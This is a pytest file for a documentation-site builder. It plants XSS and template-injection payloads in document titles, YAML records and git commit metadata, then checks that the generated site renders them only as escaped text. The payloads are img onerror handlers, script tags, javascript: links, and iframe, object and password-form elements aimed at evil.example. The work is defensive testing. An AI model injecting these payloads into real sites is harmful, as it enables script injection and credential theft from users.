"""No live markup from data: a repository with an XSS payload in every field an author or a commit controls builds
strictly, shows every payload to the reader as text, and lets none become an element, an attribute or a link."""

from __future__ import annotations

import json
import re
from html import unescape
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import copy_example, mkdocs_build, page

# One payload per vector, each with its own number, so a failure names the field.
P = {n: f"<img src=x onerror=alert({n})>" for n in range(1, 40)}
SCRIPT = {n: f"<script>alert({n})</script>" for n in range(1, 40)}
JS_LINK = {n: f"[open me](javascript:alert({n}))" for n in range(1, 40)}

DATE = "2026-11-27T10:00:00"


def git(repo: Path, *args: str, name: str = "Dana Author", email: str = "dana@example.com") -> None:
    env = {"GIT_AUTHOR_DATE": DATE, "GIT_COMMITTER_DATE": DATE, "GIT_CONFIG_GLOBAL": "/dev/null",
           "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(repo), "PATH": "/usr/bin:/bin"}
    subprocess.run(["git", "-c", f"user.name={name}", "-c", f"user.email={email}", "-c", "commit.gpgsign=false",
                    *args], cwd=repo, check=True, capture_output=True, env=env)


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{path}: {old!r} not found"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


class Live(HTMLParser):
    """Every element, event handler and URL scheme that a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction", "data", "xlink:href") and value:
                scheme = re.sub(r"[\x00-\x20]", "", value).split(":", 1)
                if len(scheme) == 2 and "/" not in scheme[0] and scheme[0].lower() not in ("http", "https", "mailto"):
                    self.urls.append(f"<{tag} {name}={value!r}>")


def article(html: str) -> str:
    """The page's content (what MkDocs rendered from Markdown), without the theme around it."""
    start = html.find("<article")
    return html[start:html.index("</article>", start)] if start >= 0 else ""


def live(html: str) -> Live:
    parser = Live()
    parser.feed(html)
    return parser


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example company with a payload in every field, committed the way GitHub merges a pull request."""
    root = copy_example(tmp_path_factory.mktemp("hostile"))
    qp01 = root / "procedures/QP-01-control-of-documented-information.md"
    text = qp01.read_text(encoding="utf-8")
    qp01.write_text(re.sub(r"^title: .*$", f"title: 'Doc {P[1]} {{{{ 6*7 }}}} {{# x </title><script>alert(2)</script>'",
                           text, count=1, flags=re.M), encoding="utf-8")
    qp06 = root / "procedures/QP-06-contract-review-and-customer-requirements.md"
    edit(qp06, "  - what: Review open quotations", f"  - what: Task {P[3]} Review open quotations")
    # the example declares nothing not applicable: the hostile copy declares 8.5.5, with a payload
    edit(root / "docs/manual/QM-03-scope.md", "review_interval: 12 months\n",
         f'review_interval: 12 months\nnot_applicable:\n  - clause: "8.5.5"\n'
         f'    justification: "NA {P[4]} {JS_LINK[5]} Our components are built into the customer\'s products."\n')
    edit(root / "organization.yaml", "    title: Quality Manager", f"    title: 'Quality Manager {P[6]}'")
    edit(root / "records_schema/corrective-action.schema.yaml", "title: Corrective action",
         f"title: 'Corrective action {P[7]}'")
    ca = root / "records/corrective-action/CA-2026-001.yaml"
    edit(ca, "nonconformity: Oversize bore", f"nonconformity: 'Value {P[8]} {JS_LINK[9]} | cell' # Oversize bore")
    # a date-like field whose schema lacks format: date
    edit(root / "records_schema/corrective-action.schema.yaml",
         "  effectiveness_date:\n    type: string\n    format: date\n", "  effectiveness_date:\n    type: string\n")
    edit(ca, "effectiveness_date: 2026-06-25", f"effectiveness_date: '{SCRIPT[10]}'")
    qp13 = root / "procedures/QP-13-control-of-nonconforming-outputs.md"
    body = (f"\n\nBody {SCRIPT[11]} and <img src=body onerror=alert(12)> and {JS_LINK[13]} and <a href=\"javascript:alert(14)\">raw</a> and "
            f"<a href=\"data:text/html,alert(15)\">data</a>.\n\n<iframe src=\"https://evil.example/16\"></iframe>\n\n"
            f"<object data=\"https://evil.example/17.swf\"></object>\n\n<style>body {{ display: none }}</style>\n\n"
            f"<form action=\"https://evil.example/18\"><input type=\"password\" name=\"pw\"></form>\n\n"
            f"<div onclick=\"alert(19)\">click</div>\n\n"
            f"Macro {{{{ doc('QP-01', '{P[20]}') }}}} and {{{{ term('nonconformity', '{SCRIPT[21]}') }}}}.\n")
    qp13.write_text(qp13.read_text(encoding="utf-8") + body, encoding="utf-8")

    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "Import the manual", name=f"[Helen Carter](javascript:alert(22)) {P[23]}")
    git(root, "checkout", "-q", "-b", "change")
    text = qp01.read_text(encoding="utf-8")
    rev = re.search(r'^revision: "?(\d+)"?', text, re.M)
    assert rev is not None
    qp01.write_text(text.replace(rev.group(0), f'revision: "{int(rev.group(1)) + 1}"', 1) + "\nA new line.\n",
                    encoding="utf-8")
    git(root, "commit", "-q", "-am",
        f"Subject {P[24]} {{{{ 6*7 }}}}\n\nApproved-by: Mallory {SCRIPT[25]} <m@example.com>\n"
        f"Co-authored-by: [Eve](javascript:alert(26)) <e@example.com>\n", name=f"Author {P[27]}",
        email="author@example.com")
    git(root, "checkout", "-q", "main")
    git(root, "merge", "-q", "--no-ff", "change", "-m",
        f"Merge pull request #12 from owner/change\n\nPR title {P[28]} {JS_LINK[29]}")
    return root


@pytest.fixture(scope="module")
def site(hostile: Path) -> Path:
    result = mkdocs_build(hostile)
    assert result.returncode == 0, result.output[-5000:]
    return hostile / "site"


def test_a_hostile_repository_builds_strictly(site: Path) -> None:
    assert (site / "index.html").exists()


def test_no_page_has_a_payload_element_handler_or_script_url(site: Path) -> None:
    wrong = []
    for path in sorted(site.rglob("*.html")):
        html = path.read_text(encoding="utf-8")
        found = live(html)
        rel = path.relative_to(site).as_posix()
        wrong += [f"{rel}: {h}" for h in found.handlers]
        wrong += [f"{rel}: {u}" for u in found.urls]
        content = live(article(html))  # the theme has forms of its own (search, palette)
        wrong += [f"{rel}: <{t}>" for t in content.tags if t in ("iframe", "object", "embed", "form", "style")]
        wrong += [f"{rel}: <img src=x>" for _ in re.finditer(r"<img[^>]*src=\"?x\b", html)]
        wrong += [f"{rel}: alert in a script" for s in re.findall(r"<script[^>]*>(.*?)</script>", html, re.S)
                  if "alert(" in s]
        wrong += [f"{rel}: 42 (a title was evaluated)" for _ in re.finditer(r"Doc [^<]*\b42\b", html)]
    assert not wrong, "\n".join(wrong[:40])


def test_the_search_index_holds_payloads_only_as_text(site: Path) -> None:
    docs = json.loads((site / "search/search_index.json").read_text(encoding="utf-8"))["docs"]
    wrong = []
    for doc in docs:
        for key in ("title", "text"):
            found = live(doc.get(key) or "")
            wrong += [f"{doc['location']} {key}: {x}" for x in found.handlers + found.urls]
            wrong += [f"{doc['location']} {key}: <{t}>" for t in found.tags if t in ("img", "script", "iframe")]
    assert not wrong, "\n".join(wrong[:40])
    text = json.dumps(docs)
    assert "onerror=alert(1)" in text  # the document title, as text


def test_document_title_is_text_in_heading_title_and_navigation(site: Path) -> None:
    html = page(site, "procedures/QP-01-control-of-documented-information.md")
    shown = "Doc <img src=x onerror=alert(1)> {{ 6*7 }} {# x </title><script>alert(2)</script>"
    title = re.search(r"<title>(.*?)</title>", html, re.S)
    assert title is not None and "<" not in title.group(1) and shown in unescape(title.group(1))
    heading = re.search(r"<h1[^>]*>(.*?)<a class=\"headerlink\"", html, re.S)
    assert heading is not None and "<" not in heading.group(1) and unescape(heading.group(1)) == f"QP-01 {shown}"
    nav = re.search(r'<a href="[^"]*QP-01-control-of-documented-information/"[^>]*>\s*<span class="md-ellipsis">(.*?)</span>',
                    page(site, "index.md"), re.S)  # the navigation of another page
    assert nav is not None and "<" not in nav.group(1) and unescape(" ".join(nav.group(1).split())) == f"QP-01 {shown}"


@pytest.mark.parametrize(("src", "shown"), [
    ("reports/tasks/index.md", "Task &lt;img src=x onerror=alert(3)&gt;"),
    ("iso9001/8-5-5.md", "NA &lt;img src=x onerror=alert(4)&gt; [open me](javascript:alert(5))"),
    ("reports/gap-analysis.md", "NA &lt;img src=x onerror=alert(4)&gt; [open me](javascript:alert(5))"),
    ("documents.md", "Quality Manager &lt;img src=x onerror=alert(6)&gt;"),
    ("records/corrective-action.md", "Corrective action &lt;img src=x onerror=alert(7)&gt;"),
    ("records/index.md", "Corrective action &lt;img src=x onerror=alert(7)&gt;"),
    ("registers/corrective-actions.md", "Value &lt;img src=x onerror=alert(8)&gt; [open me](javascript:alert(9)) | cell"),
    ("registers/corrective-actions.md", "&lt;script&gt;alert(10)&lt;/script&gt;"),
    ("procedures/QP-13-control-of-nonconforming-outputs.md", "Macro <a"),
    ("procedures/QP-13-control-of-nonconforming-outputs.md", "&lt;img src=x onerror=alert(20)&gt;</a>"),
    ("procedures/QP-13-control-of-nonconforming-outputs.md", "&lt;script&gt;alert(21)&lt;/script&gt;</a>"),
    ("changes/index.md", "[Helen Carter](javascript:alert(22)) img src=x onerror=alert(23)"),  # git drops <>
    ("changes/index.md", "Author img src=x onerror=alert(27), [Eve](javascript:alert(26))"),
    ("changes/index.md", "Mallory &lt;script&gt;alert(25)&lt;/script&gt;"),
    ("changes/index.md", "PR title &lt;img src=x onerror=alert(28)&gt; [open me](javascript:alert(29))"),
    ("procedures/QP-01-control-of-documented-information.md", "PR title &lt;img src=x onerror=alert(28)&gt;"),
    ("procedures/QP-01-control-of-documented-information.md", "Mallory &lt;script&gt;alert(25)&lt;/script&gt;"),
    ("reports/review-schedule.md", "Doc &lt;img src=x onerror=alert(1)&gt;"),
])
def test_each_payload_is_shown_to_the_reader_as_text(site: Path, src: str, shown: str) -> None:
    html = page(site, src)
    assert shown in html


def test_a_commit_subject_and_its_author_are_text_on_the_compare_page(site: Path) -> None:
    pages = [p for p in (site / "changes/QP-01").rglob("index.html")]
    html = "".join(p.read_text(encoding="utf-8") for p in pages)
    assert "PR title &lt;img src=x onerror=alert(28)&gt;" in html
    assert "[Eve](javascript:alert(26))" not in html or "<a href=\"javascript" not in html
    assert not live(html).handlers and not live(html).urls


def test_a_procedure_body_loses_scripts_handlers_and_frames_but_keeps_its_text(site: Path) -> None:
    html = page(site, "procedures/QP-13-control-of-nonconforming-outputs.md")
    content = article(html)
    assert "Body " in content and ">raw</a>" in content and ">data</a>" in content and ">click</div>" in content
    assert "<script" not in content and "<iframe" not in content and "<object" not in content
    assert "<style" not in content and "<form" not in content and "display: none" not in content
    assert 'type="password"' not in content and "alert(19)" not in content
    assert "[open me](javascript:alert(13))" not in content  # made a link, then its javascript: href removed
